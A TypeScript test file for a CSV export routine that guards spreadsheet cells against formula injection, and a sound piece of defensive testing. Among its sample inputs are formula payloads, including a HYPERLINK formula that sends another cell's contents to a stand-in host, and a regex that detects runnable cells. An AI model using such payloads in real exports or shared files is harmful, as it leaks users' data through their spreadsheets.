import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, formatCsv, formatCsvCell, formatCsvRow, readCsvCell } from '../src/csv.ts';

/** The cells of one line as a program that ignores quotes reads them, cut at `separator`. */
const piecesOf = (line: string, separator: string) => line.split(separator);
const runnable = (cell: string) => /^[ "]*[=+\-@\t\r]/.test(cell);

describe('formatCsvCell', () => {
  it.each([
    ['=', '=1+2', "'=1+2"],
    ['+', '+998901234567', "'+998901234567"],
    ['-', '-2+3', "'-2+3"],
    ['@', '@SUM(A1:A2)', "'@SUM(A1:A2)"],
  ])('puts a quote mark before a text starting with %s', (_, text, written) => {
    expect(formatCsvCell(text)).toBe(written);
  });

  it('puts a quote mark before a text starting with a tab or a carriage return', () => {
    expect(formatCsvCell('\t=1+2')).toBe("'\t=1+2");
    expect(formatCsvCell('\r=1+2')).toBe(`"'\r'=1+2"`);
  });

  it('guards what follows a semicolon, which Excel in Russian or Uzbek takes for a new cell', () => {
    const written = formatCsvCell('Phone;=1+2');
    expect(written).toBe(`"Phone;'=1+2"`);
    expect(piecesOf(written, ';').some(runnable)).toBe(false);
  });

  it('guards what follows a comma, even after spaces', () => {
    expect(formatCsvCell('a,@x')).toBe(`"a,'@x"`);
    expect(formatCsvCell('a,  -x')).toBe(`"a,  '-x"`);
    expect(piecesOf(formatCsvCell('a,@x'), ',').some(runnable)).toBe(false);
  });

  it('guards a line that starts with a formula inside a text of several lines', () => {
    expect(formatCsvCell('Brand\n=HYPERLINK("https://x.example/?d="&A2,"Open")')).toBe(
      `"Brand\n'=HYPERLINK(""https://x.example/?d=""&A2,""Open"")"`,
    );
    expect(formatCsvCell('a\r\n+1')).toBe(`"a\r\n'+1"`);
  });

  it('guards a formula behind quotes that a program reading pieces would strip', () => {
    expect(formatCsvCell('a;"=1+2"')).toBe(`"a;""'=1+2"""`);
  });

  it('doubles quotes and quotes a text holding a quote, a separator or a line break', () => {
    expect(formatCsvCell('Say "hi"')).toBe('"Say ""hi"""');
    expect(formatCsvCell('Выручка, сум')).toBe('"Выручка, сум"');
    expect(formatCsvCell('a;b')).toBe('"a;b"');
    expect(formatCsvCell('two\nlines')).toBe('"two\nlines"');
    expect(formatCsvCell(' padded ')).toBe('" padded "');
  });

  it('leaves plain text, a dash inside a word and an empty cell alone', () => {
    expect(formatCsvCell('Artel')).toBe('Artel');
    expect(formatCsvCell('Wi-Fi 6')).toBe('Wi-Fi 6');
    expect(formatCsvCell('2026-03-01')).toBe('2026-03-01');
    expect(formatCsvCell('')).toBe('');
  });

  it('writes numbers as they are, a negative amount too, but guards the same text', () => {
    expect(formatCsvCell(-5000)).toBe('-5000');
    expect(formatCsvCell(1_250_000)).toBe('1250000');
    expect(formatCsvCell(0.3333)).toBe('0.3333');
    expect(formatCsvCell(Number.NaN)).toBe('');
    expect(formatCsvCell('-5000')).toBe("'-5000");
  });

  it('adds a quote mark to a text that already starts with one before a formula', () => {
    expect(formatCsvCell("'=1+2")).toBe("''=1+2");
    expect(formatCsvCell("it's")).toBe("it's");
  });
});

describe('formatCsvRow and formatCsv', () => {
  it('joins cells with commas, ends lines with CRLF, and starts a file with a byte order mark', () => {
    expect(formatCsvRow(['Artel', -5000, '=1'])).toBe("Artel,-5000,'=1\r\n");
    expect(
      formatCsv([
        ['Бренд', 'Выручка, сум'],
        ['Artel', 5_000_000],
      ]),
    ).toBe(`${CSV_BOM}Бренд,"Выручка, сум"\r\nArtel,5000000\r\n`);
  });
});

describe('readCsvCell', () => {
  it('takes away the quote marks an export added, and no other', () => {
    expect(readCsvCell("'=1+2")).toBe('=1+2');
    expect(readCsvCell("Phone;'=1+2")).toBe('Phone;=1+2');
    expect(readCsvCell("''=1+2")).toBe("'=1+2");
    expect(readCsvCell("it's")).toBe("it's");
    expect(readCsvCell("'plain")).toBe("'plain");
  });

  it('reads back every text exactly as it was before it was written', () => {
    const text = fc.string({
      unit: fc.constantFrom('a', ' ', '"', "'", ',', ';', '\r', '\n', '\t', '=', '+', '-', '@'),
      maxLength: 12,
    });
    fc.assert(
      fc.property(text, (value) => {
        let written = formatCsvCell(value);
        if (written.startsWith('"')) written = written.slice(1, -1).replaceAll('""', '"');
        expect(readCsvCell(written)).toBe(value);
      }),
      { numRuns: 2_000 },
    );
  });

  it('never leaves a piece a program could run, whatever it cuts the line at', () => {
    const text = fc.string({
      unit: fc.constantFrom('a', ' ', '"', "'", ',', ';', '\r', '\n', '\t', '=', '+', '-', '@'),
      maxLength: 12,
    });
    fc.assert(
      fc.property(text, (value) => {
        const written = formatCsvCell(value);
        const inner = written.startsWith('"') ? written.slice(1) : written;
        for (const separator of [',', ';', '\n', '\r']) {
          for (const piece of piecesOf(inner, separator)) {
            expect(runnable(piece), JSON.stringify(written)).toBe(false);
          }
        }
      }),
      { numRuns: 2_000 },
    );
  });
});
